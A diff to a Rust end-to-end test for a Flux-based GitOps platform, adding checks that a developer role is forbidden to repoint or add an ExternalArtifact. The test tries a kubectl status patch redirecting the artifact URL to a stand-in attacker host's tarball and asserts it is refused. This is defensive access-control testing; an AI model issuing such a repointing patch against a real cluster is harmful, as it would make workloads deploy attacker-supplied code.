@@ -3,7 +3,8 @@
 //! commit and serves; real kustomize-controller (with `--feature-gates=ExternalArtifact=true`)
 //! fetches and applies it, and the release becomes Healthy. A release to one tenant publishes
 //! that tenant's artifact only: the other tenant's Kustomization never sees the new commit.
-//! The server hands out tenant folders and nothing else of the repository.
+//! The server hands out tenant folders and nothing else of the repository, and a project role
+//! may not publish or repoint an artifact.
 
 use gitopshq_e2e::{Platform, flux_artifacts};
 use serde_json::Value;
@@ -114,6 +115,30 @@ async fn each_tenant_follows_its_own_artifact_and_a_release_moves_only_its_tenan
                 .is_empty()
         );
     }
+
+    // What Flux applies is the controller's to publish: a project role (alice is Developer
+    // and ReleaseManager in development) may neither point an artifact elsewhere nor add one.
+    let eu = format!("{NS}-development-eu-development");
+    let pointed = platform
+        .kubectl("alice")
+        .args(["-n", "flux-system", "patch", "externalartifact", &eu])
+        .args(["--subresource=status", "--type=merge", "-p"])
+        .arg(r#"{"status":{"artifact":{"url":"http://attacker.example/eu.tar.gz"}}}"#)
+        .output()
+        .expect("kubectl runs");
+    assert!(!pointed.status.success());
+    assert!(
+        String::from_utf8_lossy(&pointed.stderr).contains("forbidden"),
+        "{}",
+        String::from_utf8_lossy(&pointed.stderr)
+    );
+    let added = platform.apply_refused(
+        "alice",
+        &format!(
+            "apiVersion: source.toolkit.fluxcd.io/v1\nkind: ExternalArtifact\nmetadata: {{name: {eu}-2, namespace: flux-system}}\nspec: {{}}\n"
+        ),
+    );
+    assert!(added.contains("forbidden"), "{added}");
 
     // A release to one tenant: only its artifact moves, the other tenant's Kustomization
     // never attempts the new commit.
